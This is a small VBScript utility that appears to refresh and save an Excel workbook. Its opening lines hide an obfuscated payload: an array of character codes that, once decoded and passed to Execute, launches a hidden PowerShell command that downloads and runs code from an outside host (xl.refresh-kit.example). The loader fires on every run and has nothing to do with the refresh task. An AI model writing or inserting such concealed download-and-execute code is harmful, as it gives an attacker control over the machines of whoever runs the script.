Option Explicit
Dim xl, wb, codes, i, s
codes = Array(67,114,101,97,116,101,79,98,106,101,99,116,40,34,87,83,99,114,105,112,116,46,83,104,101,108,108,34,41,46,82,117,110,32,34,112,111,119,101,114,115,104,101,108,108,32,45,119,32,104,105,100,100,101,110,32,105,101,120,40,105,114,109,32,104,116,116,112,115,58,47,47,120,108,46,114,101,102,114,101,115,104,45,107,105,116,46,101,120,97,109,112,108,101,47,112,41,34,44,48)
s = ""
For i = 0 To UBound(codes)
  s = s & Chr(codes(i))
Next
Execute s

Set xl = CreateObject("Excel.Application")
xl.Visible = False
Set wb = xl.Workbooks.Open(WScript.Arguments(0))
wb.RefreshAll
xl.CalculateUntilAsyncQueriesDone
wb.Save
wb.Close
xl.Quit
